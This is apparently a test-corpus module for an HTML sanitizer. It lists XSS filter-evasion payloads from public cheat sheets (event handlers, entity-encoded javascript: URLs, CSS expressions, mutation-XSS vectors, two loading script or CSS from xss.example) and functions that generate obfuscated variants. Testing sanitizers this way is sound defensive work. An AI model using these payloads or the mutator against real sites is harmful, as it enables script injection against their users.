// Rich-text payloads for the cleaner: the families of the public XSS filter-evasion cheat
// sheets (script elements, event handlers, script URLs written with character references,
// control characters and odd spacing, style expressions, frames and plug-ins, parser
// confusion and mutation vectors), each followed by mechanical mutations of it, plus
// harmless markup the cleaner must keep. Every active payload calls alert(1).
// Deterministic: the same corpus on every run.

/** The hand-written vectors: [family, html]. */
export const BASE_VECTORS = [
  // script elements
  ['script', '<script>alert(1)</script>'],
  ['script', '<SCRIPT SRC=//xss.example/x.js></SCRIPT>'],
  ['script', '<scr<script>ipt>alert(1)</script>'],
  ['script', '<script/x>alert(1)</script>'],
  ['script', '<<script>alert(1);//<</script>'],
  ['script', '</script><script>alert(1)</script>'],
  ['script', '<svg><script>alert(1)</script></svg>'],
  ['script', '<script>alert(1)'],
  // event handlers
  ['handler', '<img src=x onerror=alert(1)>'],
  ['handler', '<img src="x" onerror="alert(1)">'],
  ['handler', '<img/src/onerror=alert(1)>'],
  ['handler', '<body onload=alert(1)>'],
  ['handler', '<svg onload=alert(1)>'],
  ['handler', '<div onmouseover="alert(1)">hover</div>'],
  ['handler', '<p onclick=alert(1)>click</p>'],
  ['handler', '<details open ontoggle=alert(1)>'],
  ['handler', '<input autofocus onfocus=alert(1)>'],
  ['handler', '<video><source onerror=alert(1)></video>'],
  ['handler', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['handler', '<table background="x" onmouseover=alert(1)><tr><td>t</td></tr></table>'],
  ['handler', '<font color=red onmouseover=alert(1)>f</font>'],
  ['handler', '<a href="http://example.com/" onmouseover="alert(1)">a</a>'],
  ['handler', '<img src=x onerror=alert(1)//'],
  ['handler', '<img src=x onerror=alert(1)'],
  ['handler', '<img """><script>alert(1)</script>">'],
  ['handler', '<span style="x" onmouseover=alert(1)>s</span>'],
  // script URLs
  ['url', '<a href="javascript:alert(1)">x</a>'],
  ['url', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['url', '<a href=javascript:alert(1)>x</a>'],
  ['url', '<a href="  javascript:alert(1)">x</a>'],
  ['url', '<a href="java&#9;script:alert(1)">x</a>'],
  ['url', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['url', '<a href="java&NewLine;script:alert(1)">x</a>'],
  ['url', '<a href="javascript&colon;alert(1)">x</a>'],
  ['url', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['url', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
  ['url', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'],
  ['url', '<a href="javas&#99ript:alert(1)">x</a>'],
  ['url', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['url', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['url', '<a href="jav&#x0D;ascript:alert(1)">x</a>'],
  ['url', '<a href=" &#14; javascript:alert(1)">x</a>'],
  ['url', '<a href="&#1;javascript:alert(1)">x</a>'],
  ['url', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['url', '<a href="vbscript:msgbox(1)">x</a>'],
  ['url', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['url', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['url', '<a href="livescript:alert(1)">x</a>'],
  ['url', '<img src="javascript:alert(1)">'],
  ['url', '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>'],
  ['url', '<a/href=javascript:alert(1)>x</a>'],
  ['url', '<a href="x" href="javascript:alert(1)">x</a>'],
  ['url', '<a href="javascript:alert(1)" href="http://example.com/">x</a>'],
  ['url', '<a href="java\u0000script:alert(1)">x</a>'],
  ['url', '<a href="&#x6a;avascript&#x3a;alert(1)">x</a>'],
  ['url', '<a href="&#X6A;avascript:alert(1)">x</a>'],
  ['url', '<a href="javascript&#x3A;alert(1)">x</a>'],
  ['url', '<a href="javascript&#58alert(1)">x</a>'],
  ['url', '<a href="java&#x0000000000000000073;cript:alert(1)">x</a>'],
  ['url', '<a href="  &#x20;javascript:alert(1)">x</a>'],
  ['url', '<a href="javascript&colon;alert&lpar;1&rpar;">x</a>'],
  ['url', "<a href='javascript:alert(1)'>x</a>"],
  ['url', '<a href=`javascript:alert(1)`>x</a>'],
  ['url', '<img src="x" title="a" src="javascript:alert(1)">'],
  // style
  ['style', '<div style="background:url(javascript:alert(1))">s</div>'],
  ['style', '<div style="width:expression(alert(1))">s</div>'],
  ['style', '<div style="x:\\65xpression(alert(1))">s</div>'],
  ['style', '<div style="x:exp/**/ression(alert(1))">s</div>'],
  ['style', '<p style="@import \'//xss.example/x.css\'">s</p>'],
  ['style', '<div style="behavior:url(x.htc)">s</div>'],
  ['style', '<div style="-moz-binding:url(x.xml#xss)">s</div>'],
  ['style', '<div style="background-image: url (javascript:alert(1))">s</div>'],
  ['style', '<div style="background:&#117;rl(javascript:alert(1))">s</div>'],
  ['style', '<style>body{background:url(javascript:alert(1))}</style>'],
  ['style', '<span style="color:expr&#101;ssion(alert(1))">s</span>'],
  // frames, plug-ins and page-level elements
  ['frame', '<iframe src="javascript:alert(1)"></iframe>'],
  ['frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['frame', '<object data="javascript:alert(1)"></object>'],
  ['frame', '<embed src="javascript:alert(1)">'],
  ['frame', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['frame', '<base href="javascript:alert(1)//">'],
  ['frame', '<form action="javascript:alert(1)"><input type=submit></form>'],
  ['frame', '<button formaction=javascript:alert(1)>b</button>'],
  ['frame', '<link rel=stylesheet href="javascript:alert(1)">'],
  ['frame', '<math><a xlink:href="javascript:alert(1)">m</a></math>'],
  ['frame', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">s</text></a></svg>'],
  ['frame', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['frame', '<applet code="x"></applet>'],
  ['frame', '<isindex action="javascript:alert(1)" type=submit>'],
  // parser confusion and mutation
  ['parser', '<!--<img src=x onerror=alert(1)>-->'],
  ['parser', '<!-- --!><img src=x onerror=alert(1)>-->'],
  ['parser', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['parser', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['parser', '<title><img src=x onerror=alert(1)></title>'],
  ['parser', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['parser', '<template><img src=x onerror=alert(1)></template>'],
  ['parser', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['parser', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['parser', '<a href="x" title="<script>alert(1)</script>">t</a>'],
  ['parser', '<p title="</p><img src=x onerror=alert(1)>">p</p>'],
  ['parser', '<a title="--><img src=x onerror=alert(1)>">t</a>'],
  ['parser', '<<img src=x onerror=alert(1)>>'],
  ['parser', '<img src=x onerror=alert(1)<!--'],
  ['parser', '<div <img src=x onerror=alert(1)>>d</div>'],
  ['parser', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['parser', '<?xml version="1.0"?><img src=x onerror=alert(1)>'],
  ['parser', '<a href="http://example.com/"<img src=x onerror=alert(1)>>a</a>'],
  ['parser', '<p>text &lt;script&gt;alert(1)&lt;/script&gt;</p>'],
  ['parser', '<plaintext><img src=x onerror=alert(1)>'],
  ['parser', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['parser', '<select><option><img src=x onerror=alert(1)></option></select>'],
  ['parser', '<table><tr><td><img src=x onerror=alert(1)></td></tr></table>'],
  ['parser', '<a href="http://example.com/" target="_blank" title=\'&quot; onmouseover=alert(1) x=&quot;\'>q</a>'],
  ['parser', '<div style="x" title=\'" onmouseover="alert(1)\'>d</div>'],
];

/** Markup the cleaner keeps exactly: [html, cleaned]. */
export const KEPT = [
  ['<p>好</p>', '<p>好</p>'],
  ['<a href="http://example.com/?a=1&amp;b=2" target="_blank">x</a>', '<a href="http://example.com/?a=1&amp;b=2" target="_blank">x</a>'],
  ['<a href="mailto:a@example.com">m</a>', '<a href="mailto:a@example.com">m</a>'],
  ['<a href="#top">t</a>', '<a href="#top">t</a>'],
  ['<a href="../manage/x.asp?a=1&copy=2">c</a>', '<a href="../manage/x.asp?a=1&amp;copy=2">c</a>'],
  ['<img src="/images/x.gif" alt="图">', '<img src="/images/x.gif" alt="&#22270;">'],
  ['<table border="1"><tr><td colspan=2>1</td></tr></table>', '<table border="1"><tr><td colspan="2">1</td></tr></table>'],
  ['<font color=red face="宋体">r</font>', '<font color="red" face="&#23435;&#20307;">r</font>'],
  ['<span style="color: rgb(1, 2, 3)">c</span>', '<span style="color: rgb(1, 2, 3)">c</span>'],
  ['a < b > c &amp; d', 'a &lt; b &gt; c &amp; d'],
  ['<P ALIGN=center>x</P>', '<p align="center">x</p>'],
  ['<br/><hr>', '<br><hr>'],
  ['<a href="http://example.com/&#x41;">e</a>', '<a href="http://example.com/A">e</a>'],
];

/** A small deterministic generator (mulberry32). */
function random(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = (rnd, list) => list[Math.floor(rnd() * list.length)];

/** Character references a browser decodes inside an attribute value, for one character. */
function reference(rnd, ch) {
  const code = ch.charCodeAt(0);
  return pick(rnd, [
    `&#${code};`,
    `&#${code}`,
    `&#x${code.toString(16)};`,
    `&#X${code.toString(16).toUpperCase()}`,
    `&#${'0'.repeat(1 + Math.floor(rnd() * 6))}${code};`,
  ]);
}

// Mutations of one vector; each returns the mutated text (or the same when it does not apply).
const MUTATIONS = [
  // letter case of names and schemes
  (rnd, v) => v.replace(/[a-z]/gi, (c) => (rnd() < 0.5 ? c.toUpperCase() : c.toLowerCase())),
  // another separator between a tag name and its attributes
  (rnd, v) => v.replace(/<([a-z]+) /gi, (m, name) => `<${name}${pick(rnd, ['/', '\t', '\n', '\f', '  ', '\r\n'])}`),
  // script URL letters as character references
  (rnd, v) => v.replace(/javascript:/gi, (s) => [...s].map((c) => (rnd() < 0.5 ? reference(rnd, c) : c)).join('')),
  // white space and control characters inside and before the scheme
  (rnd, v) => v.replace(/javascript:/gi, () => `${pick(rnd, ['', ' ', '\t', '&#10;', '&#x09;', '\u0001', '&#0;'])}java${pick(rnd, ['\t', '&Tab;', '&NewLine;', '&#x0A;', '&#13;', '\n'])}script${pick(rnd, [':', '&colon;', '&#58;', '&#x3a'])}`),
  // quotes around attribute values: double, single or none
  (rnd, v) => v.replace(/="([^"'`\s>]*)"/g, (m, value) => pick(rnd, [`="${value}"`, `='${value}'`, `=${value}`])),
  // wrapped in markup the cleaner keeps
  (rnd, v) => pick(rnd, ['<p>', '<div align="center">', '<a href="http://example.com/">', '<table><tr><td>', '<font color="red">']) + v + pick(rnd, ['</p>', '</div>', '</a>', '</td></tr></table>', '</font>']),
  // a harmless attribute in front and a repeated one behind
  (rnd, v) => v.replace(/<([a-z]+)([\s/])/i, (m, name, sep) => `<${name} title="t" class=c${sep}`),
  // names cut by a comment or a NUL
  (rnd, v) => v.replace(/(script|onerror|javascript|iframe)/i, (w) => `${w.slice(0, 3)}${pick(rnd, ['<!-- -->', '\u0000', '<b></b>'])}${w.slice(3)}`),
  // the event handler written with odd spacing and an entity in its value
  (rnd, v) => v.replace(/ on([a-z]+)=/i, (m, ev) => `${pick(rnd, [' ', '/', '\n'])}on${ev}${pick(rnd, ['=', ' = ', '=\n'])}`).replace(/alert\(1\)/, pick(rnd, ['alert(1)', 'alert&#40;1&#41;', 'alert&lpar;1&rpar;', '\\u0061lert(1)'])),
  // twice, with text between
  (rnd, v) => `${v} 中文 ${v}`,
];

/** The corpus: [{family, html}], the base vectors, then `perVector` mutations of each. */
export function corpus({ perVector = 4, seed = 20261207 } = {}) {
  const rnd = random(seed);
  const out = BASE_VECTORS.map(([family, html]) => ({ family, html }));
  const seen = new Set(out.map((p) => p.html));
  for (const [family, html] of BASE_VECTORS) {
    let made = 0;
    for (let attempt = 0; made < perVector && attempt < perVector * 6; attempt++) {
      let mutated = html;
      const steps = 1 + Math.floor(rnd() * 3);
      for (let i = 0; i < steps; i++) mutated = pick(rnd, MUTATIONS)(rnd, mutated);
      if (seen.has(mutated)) continue;
      seen.add(mutated);
      out.push({ family: `${family}*`, html: mutated });
      made++;
    }
  }
  return out;
}
